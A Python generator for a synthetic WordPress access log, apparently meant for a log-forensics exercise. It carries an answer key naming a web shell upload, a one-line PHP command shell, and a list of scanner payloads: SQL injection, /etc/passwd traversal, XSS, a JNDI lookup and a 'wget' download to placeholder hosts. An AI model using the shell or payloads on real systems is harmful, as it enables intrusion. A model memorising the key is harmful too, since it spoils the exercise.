"""An access log (combined format) of a shop with a blog on WordPress: readers, search engines, scanners whose attacks are answered 404, 403 or
by the page as ever, and one intruder who uploads a web shell and uses it."""
import datetime
import urllib.parse

from cast import Cast, endless, numbers, stamps

BEGUN = datetime.datetime(2026, 1, 3, tzinfo=datetime.timezone.utc)
LINES_A_SECOND = 4.0
ADDRESS = "203.0.113.201"
SHELL = "/wp-content/uploads/2026/01/thumb-cache.php"
SHELL_CODE = b"<?php\n// thumbnail cache\n@set_time_limit(0);\nif (isset($_POST['k'])) { echo shell_exec($_POST['k']); }\n"
FIRST_CALL = datetime.datetime(2026, 1, 5, 3, 41, 17, tzinfo=datetime.timezone.utc)
CALLS, CALL_EVERY_S = 160, 45
UPLOAD = "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"
UPLOADED = FIRST_CALL - datetime.timedelta(seconds=9)
TRUTH = {"path": "/var/www/html" + SHELL, "address": ADDRESS, "at": UPLOADED.strftime("%Y-%m-%dT%H:%M:%S"), "technique": "T1190",
         "says": ["The same address called it afterwards."], "title": f"{UPLOAD} from {ADDRESS}"}

SITE = "https://shop.example.com"
CHROME = "Mozilla/5.0 ({}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{}.0.0.0 {}Safari/537.36"
AGENTS = ([CHROME.format(system, version, mobile) for version in range(112, 144)
           for system, mobile in (("Windows NT 10.0; Win64; x64", ""), ("Macintosh; Intel Mac OS X 10_15_7", ""),
                                  ("X11; Linux x86_64", ""), ("Linux; Android 10; K", "Mobile "))]
          + [f"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0" for v in range(102, 147)]
          + [f"Mozilla/5.0 (iPhone; CPU iPhone OS {v}_{m} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{v}.{m} "
             "Mobile/15E148 Safari/604.1" for v in (15, 16, 17, 18) for m in range(7)])
BOTS = ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)", "facebookexternalhit/1.1", "Feedfetcher-Google")
TOOLS = ("sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.0 zgrab/0.x", "python-requests/2.31.0", "curl/7.88.1", "Go-http-client/1.1",
         "Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
THINGS = "tea cup kettle bowl tray linen lamp chair desk vase plate knife board cloth spoon glass basket stool mirror clock".split()
ASSETS = ([f"/wp-content/themes/storefront/assets/js/{name}.min.js?ver=4.5.{v}" for name in ("navigation", "cart", "search", "footer") for v in range(4)]
          + [f"/wp-content/uploads/2025/{month:02d}/{thing}-{n}-600x400.jpg" for month in range(1, 13) for thing in THINGS for n in range(4)]
          + ["/wp-includes/css/dist/block-library/style.min.css?ver=6.4.2", "/favicon.ico", "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1"])
PAGES = (["/", "/shop/", "/cart/", "/feed/", "/?wc-ajax=get_refreshed_fragments", "/wp-json/wp/v2/posts?per_page=5"]
         + [f"/product/{a}-{b}/" for a in THINGS for b in THINGS] + [f"/2025/{m:02d}/{a}-and-{b}/" for m in range(1, 13) for a in THINGS for b in THINGS]
         + [f"/?s={a}+%26+{b}&post_type=product" for a in THINGS for b in THINGS]
         + [f"/shop/page/{n}/?orderby=price&min_price={n}0" for n in range(1, 80)])
#: What scanners ask for, and what they are answered: for a page of WordPress unknown parameters change nothing.
ATTACKS = [("GET", path, status) for path, status in (
    ("/?id=1%27%20UNION%20SELECT%20user_login,user_pass%20FROM%20wp_users--%20-", 200), ("/?s=%27+OR+%271%27%3D%271", 200),
    ("/index.php?page=../../../../../../etc/passwd", 301), ("/..%2f..%2f..%2f..%2fetc%2fpasswd", 400), ("/.env", 404), ("/.git/config", 404),
    ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 404), ("/cgi-bin/%252e%252e/%252e%252e/etc/passwd", 404), ("/wp-content/uploads/shell.php", 404),
    ("/phpmyadmin/index.php?lang=en", 404), ("/?x=${jndi:ldap://198.51.100.250/a}", 200), ("/alfa.php?cmd=id", 404), ("/c99.php", 404),
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404), ("/wp-config.php.bak", 403), ("/?cat=%3Cscript%3Ealert(1)%3C%2Fscript%3E", 200),
    ("/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php", 400), ("/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.9/jaws", 404),
    ("/boaform/admin/formLogin?username=admin&psd=admin", 404), ("/solr/admin/info/system?wt=json", 404), ("/login.action", 404))]
ATTACKS += [("POST", "/wp-login.php", 200), ("POST", "/xmlrpc.php", 405), ("POST", "/cgi-bin/.%2e/.%2e/bin/sh", 404), ("PROPFIND", "/", 405)]


class Writer:
    """Makes the lines of one minute at a time, in the order of the seconds."""

    def __init__(self):
        cast = Cast("access")
        self.random = cast.random
        self.readers = endless(cast, list(zip(cast.addresses(60_000), cast.some(AGENTS, 60_000))))
        self.bots = endless(cast, list(zip(cast.addresses(300), cast.some(BOTS, 300, steep=False))))
        self.scanners = endless(cast, list(zip(cast.addresses(2_500), cast.some(TOOLS, 2_500, steep=False))))
        self.pages, self.assets, self.attacks = endless(cast, PAGES), endless(cast, ASSETS), endless(cast, ATTACKS, steep=False)
        self.sizes, self.seconds, self.dice = numbers(cast, 900, 180_000), numbers(cast, 0, 60), numbers(cast, 0, 100)
        self.lines = []

    def say(self, second, address, request, status, size, referrer, agent):
        self.lines.append((second, f"{address} - - [", f'] "{request} HTTP/1.1" {status} {size} "{referrer}" "{agent}"\n'))

    def visit(self, s):
        address, agent = next(self.readers)
        page = next(self.pages)
        came = f"https://www.google.com/search?q={urllib.parse.quote(page)}" if next(self.dice) < 30 else "-"
        self.say(s, address, f"GET {page}", 200, next(self.sizes), came, agent)
        for place in range(next(self.dice) // 9):
            status = 304 if next(self.dice) < 35 else 200
            self.say(s + 1 + place // 6, address, f"GET {next(self.assets)}", status, next(self.sizes) if status == 200 else 0, SITE + page, agent)
        if next(self.dice) < 4:
            self.say(s + 20, address, "POST /?wc-ajax=add_to_cart", 200, next(self.sizes) % 3_000, SITE + page, agent)

    def crawl(self, s):
        address, agent = next(self.bots)
        self.say(s, address, f"GET {next(self.pages)}", 404 if next(self.dice) < 5 else 200, next(self.sizes), "-", agent)

    def scan(self, s):
        address, agent = next(self.scanners)
        for place in range(1 + next(self.dice) // 12):
            method, target, status = next(self.attacks)
            self.say(s + place // 3, address, f"{method} {target}", status, 31_204 if status == 200 else 437, "-", agent)

    def intruder(self, from_s):
        """An upload through a plugin, then the shell is called."""
        agent, first = AGENTS[7], int((FIRST_CALL - BEGUN).total_seconds()) - from_s
        if 0 <= first - 20 < 60:
            self.say(first - 20, ADDRESS, "GET /wp-content/plugins/wp-file-manager/readme.txt", 200, 40_112, "-", agent)
        if 0 <= first - 9 < 60:
            self.say(first - 9, ADDRESS, f"POST {UPLOAD}", 200, 1_036, "-", agent)
        for call in range(CALLS):
            second = first + call * CALL_EVERY_S
            if 0 <= second < 60:
                self.say(second, ADDRESS, f"POST {SHELL}", 200, 57 + call % 11 * 383, "-", agent)

    def minute(self, number):
        """The lines of this minute with those left over from before, as (second from BEGUN, text before and after the time)."""
        from_s = 60 * number
        made = self.lines
        self.lines = []
        while len(self.lines) < 60 * LINES_A_SECOND:
            kind = next(self.dice)
            (self.visit if kind < 70 else self.crawl if kind < 92 else self.scan)(next(self.seconds))
        self.intruder(from_s)
        now = made + [(from_s + second, head, tail) for second, head, tail in self.lines]
        now.sort(key=lambda line: line[0])
        cut = next((i for i, line in enumerate(now) if line[0] >= from_s + 60), len(now))
        self.lines = now[cut:]
        return now[:cut]


def pieces():
    """The log, a minute at a time, without an end: bytes and the moment it ends (UTC seconds)."""
    writer, times = Writer(), stamps(BEGUN, lambda at: f"{at:%d/%b/%Y}:", " +0000")
    number = 0
    while True:
        second_stamps = [next(times) for _ in range(60)]
        text = "".join(head + second_stamps[second - 60 * number] + tail for second, head, tail in writer.minute(number))
        number += 1
        yield text.encode(), BEGUN.timestamp() + 60 * number
